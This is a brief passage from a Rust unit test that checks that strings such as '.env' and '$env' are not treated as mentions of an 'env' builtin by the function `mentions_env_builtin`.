            assert!(mentions_env_builtin(f), "{f}");
        }
        for f in [".env", ".environment", "$env", ".a.env_x"] {
            assert!(!mentions_env_builtin(f), "{f}");
        }
    }
}
